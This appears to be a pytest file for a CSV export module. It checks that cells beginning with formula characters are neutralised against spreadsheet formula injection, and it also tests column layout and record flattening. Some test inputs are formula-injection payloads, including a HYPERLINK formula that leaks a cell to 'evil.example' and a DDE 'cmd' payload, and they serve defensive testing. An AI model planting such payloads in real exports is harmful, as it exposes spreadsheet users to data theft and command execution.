"""csv_layout: the one CSV layout of a record, and the guard against formula injection (CWE-1236)."""

from __future__ import annotations

import csv
import io

import pytest

from review_fixtures import make_record
from twin_extract.csv_layout import COLUMNS, REVIEW_COLUMNS, columns, csv_text, flatten, record_rows, safe_cell



@pytest.mark.parametrize(("text", "expected"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+1 555 0100", "'+1 555 0100"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-0.5", "'-0.5"),  # a string is text, whatever it looks like
])
def test_safe_cell_neutralises_text_a_spreadsheet_would_run(text: str, expected: str) -> None:
    assert safe_cell(text) == expected


@pytest.mark.parametrize("text", [
    "", "Bucha", "Saint-Denis", "a = b", "mail@example.org", "2022-06", " =not first", "'=already quoted",
])
def test_safe_cell_leaves_ordinary_text_alone(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-0.5, -3, 0, 0.9, 703448, None, True])
def test_safe_cell_leaves_non_text_values_alone(value: object) -> None:
    assert safe_cell(value) is value


def test_csv_guards_text_but_not_numbers() -> None:
    assert csv_text([[-0.5, -3, "-0.5", "=1+1", "Lviv", None]]) == "-0.5,-3,'-0.5,'=1+1,Lviv,\r\n"


@pytest.mark.parametrize("explain, review, tail", [
    (False, False, ["source_title", "evidence"]),
    (True, False, ["evidence", "rules"]),
    (False, True, ["evidence", *REVIEW_COLUMNS]),
])
def test_header_is_the_record_columns_then_the_optional_ones(explain: bool, review: bool, tail: list[str]) -> None:
    header = columns(explain=explain, review=review)
    assert header[:len(COLUMNS)] == list(COLUMNS) and header[-len(tail):] == tail


def test_flatten_mirrors_the_json_form() -> None:
    data = make_record(("Bucha", "UA"), ("Bergamo", "IT")).to_dict(explain=True)
    data["evidence"].append({"text": "Second\n  sentence.", "start": 500, "end": 518})
    row = flatten({**data, "review": {"state": "accepted", "note": "ok"}})
    assert (row["a_name"], row["b_country"], row["date_value"], row["source_published"]) == (
        "Bucha", "IT", "2022-06", "2022-06-20")
    assert row["evidence"] == data["evidence"][0]["text"] + " | Second sentence."
    assert (row["rules"], row["review_state"], row["review_note"]) == ("", "accepted", "ok")
    assert set(COLUMNS) <= set(row)


def test_rows_read_back_in_the_header_order() -> None:
    records = [make_record(("Bucha", "UA"), ("=Bergamo", "IT")).to_dict()]
    header = columns()
    text = csv_text([header, *record_rows(records, header)])
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert list(row) == header
    assert (row["b_name"], row["a_geonames_id"], row["confidence"]) == ("'=Bergamo", "", "0.5")
